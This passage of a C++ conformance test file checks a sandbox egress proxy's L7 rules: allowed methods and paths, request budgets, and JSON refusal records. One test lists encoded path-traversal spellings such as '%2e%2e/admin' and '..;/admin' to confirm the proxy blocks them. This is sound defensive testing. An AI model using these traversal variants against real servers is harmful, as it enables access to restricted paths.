  for (std::size_t i = b.size(); i < a.size(); ++i) out.push_back(a[i].get<std::string>());
  return out;
}

/// The refusal body of `answer` ([status, body]) as JSON (null when it is not JSON).
json refusal_of(const json& answer) {
  return json::parse(answer[1].get<std::string>(), nullptr, false);
}

const sandbox::egress_attempt* attempt_for(const sandbox::run_result& r, std::string_view method,
                                           std::string_view path) {
  for (const auto& a : r.egress_attempts) {
    if (a.method == method && a.path == path) return &a;
  }
  return nullptr;
}

}  // namespace

TEST_CASE("egress: L7 rules let through only their methods and paths, within their budget",
          "[egress][egress_rules][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;  // covered by the first case
  const auto& o = conformance::egress_origin();
  const auto before = json::parse(o.stats(), nullptr, false);
  REQUIRE(before.is_object());
  // Six connections (the suite's runs may open eight): two HTTPS tunnels carry several
  // requests each, kept alive until a refusal closes them.
  auto req = network_request(b, rules_prelude() + R"PY(
report = {}
c = tunnel()
report['get_eu'] = send(c, 'GET', '/v1/rates/eu')
report['get_us'] = send(c, 'GET', '/v1/rates/us')
report['post'] = send(c, 'POST', '/v1/rates/eu')
report['plain_get'] = plain('GET', '/v1/rates/plain')
report['plain_post'] = plain('POST', '/v1/rates/plain')
report['outside'] = send(tunnel(), 'GET', '/v1/admin')
c = tunnel()
report['get_fr'] = send(c, 'GET', '/v1/rates/fr')
report['get_de'] = send(c, 'GET', '/v1/rates/de')
report['plain_after'] = plain('GET', '/v1/rates/after')
print(json.dumps(report))
)PY");
  auto r = b.rt().run(req, ruled_ticket(b, 4));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  // Allowed: GET under /v1/rates/, over HTTPS (terminated for the rule) and plain HTTP.
  for (const char* k : {"get_eu", "get_us", "plain_get", "get_fr"}) {
    CAPTURE(k);
    CHECK(j[k][0] == 200);
  }
  // Refused: another method, a path outside the prefix — a JSON 403 naming the rule and
  // what it allows; then the budget (4 requests) is spent, in either protocol.
  for (const auto& [k, reason] :
       std::vector<std::pair<const char*, const char*>>{{"post", "rule_refused"},
                                                        {"plain_post", "rule_refused"},
                                                        {"outside", "rule_refused"},
                                                        {"get_de", "budget_exhausted"},
                                                        {"plain_after", "budget_exhausted"}}) {
    CAPTURE(k);
    CHECK(j[k][0] == 403);
    const auto body = refusal_of(j[k]);
    REQUIRE(body.is_object());
    CHECK(body["error"] == "egress_denied");
    CHECK(body["reason"] == reason);
    CHECK(body["rule"] == "rates-read");
    CHECK(body["host"] == conformance::egress_approved_name);
    if (std::string_view(reason) == "rule_refused") {
      CHECK(body["advice"].get<std::string>().find("rule 'rates-read' allows GET /v1/rates/") !=
            std::string::npos);
    }
  }
  // The origins' own logs: exactly the admitted requests arrived, nothing refused did.
  const auto after = json::parse(o.stats(), nullptr, false);
  REQUIRE(after.is_object());
  CHECK(logged_since(before, after, "https") ==
        std::vector<std::string>{"GET /v1/rates/eu", "GET /v1/rates/us", "GET /v1/rates/fr"});
  CHECK(logged_since(before, after, "http") == std::vector<std::string>{"GET /v1/rates/plain"});
  // The record: each request with its method, path and rule; refusals with their reason.
  for (const auto& [method, path, reason] :
       std::vector<std::tuple<const char*, const char*, const char*>>{
           {"GET", "/v1/rates/eu", "approved"},
           {"GET", "/v1/rates/us", "approved"},
           {"POST", "/v1/rates/eu", "rule_refused"},
           {"GET", "/v1/rates/plain", "approved"},
           {"POST", "/v1/rates/plain", "rule_refused"},
           {"GET", "/v1/admin", "rule_refused"},
           {"GET", "/v1/rates/fr", "approved"},
           {"GET", "/v1/rates/de", "budget_exhausted"},
           {"GET", "/v1/rates/after", "budget_exhausted"}}) {
    CAPTURE(method, path);
    const auto* a = attempt_for(r, method, path);
    REQUIRE(a != nullptr);
    CHECK(a->reason == reason);
    CHECK(a->allowed == (std::string_view(reason) == "approved"));
    CHECK(a->rule == "rates-read");
    CHECK(a->host == conformance::egress_approved_name);
    if (a->allowed) CHECK(a->bytes_down > 0);
  }
}

TEST_CASE("egress: L7 rules refuse dot segments and encoded separators, however spelled",
          "[egress][egress_rules][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;
  const auto& o = conformance::egress_origin();
  const auto before = json::parse(o.stats(), nullptr, false);
  REQUIRE(before.is_object());
  // Seven spellings of "up from /v1/rates/" (one connection each: a refusal ends it), and a
  // neighbour one byte away that is a plain path and passes.
  auto req = network_request(b, rules_prelude() + R"PY(
unsafe = ['/v1/rates/%2e%2e/admin', '/v1/rates/%2E%2e/admin', '/v1/rates/..%2fadmin',
          '/v1/rates/..;/admin', '/v1/rates/../admin', '/v1/rates/.%2E/admin']
report = {'unsafe': [send(tunnel(), 'GET', p) for p in unsafe],
          'plain_unsafe': plain('GET', '/v1/rates/..%5Cadmin'),
          'neighbour': send(tunnel(), 'GET', '/v1/rates/a..b')}
print(json.dumps(report))
)PY");
  auto r = b.rt().run(req, ruled_ticket(b, 10));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  REQUIRE(j["unsafe"].size() == 6);
  std::vector<json> answers(j["unsafe"].begin(), j["unsafe"].end());
  answers.push_back(j["plain_unsafe"]);
  for (const auto& answer : answers) {
    CAPTURE(answer.dump());
    CHECK(answer[0] == 403);
    const auto body = refusal_of(answer);
    REQUIRE(body.is_object());
    CHECK(body["reason"] == "unsafe_path");
    CHECK(body["rule"] == "rates-read");
  }
  CHECK(j["neighbour"][0] == 200);
  // Only the neighbour reached an origin.
  const auto after = json::parse(o.stats(), nullptr, false);
  REQUIRE(after.is_object());
  CHECK(logged_since(before, after, "https") == std::vector<std::string>{"GET /v1/rates/a..b"});
  CHECK(logged_since(before, after, "http").empty());
  int unsafe = 0;
  for (const auto& a : r.egress_attempts) {
    if (a.reason != "unsafe_path") continue;
    ++unsafe;
    CHECK_FALSE(a.allowed);
    CHECK(a.method == "GET");
    CHECK(a.path.rfind("/v1/rates/", 0) == 0);
    CHECK(a.rule == "rates-read");
  }
  CHECK(unsafe == 7);
}
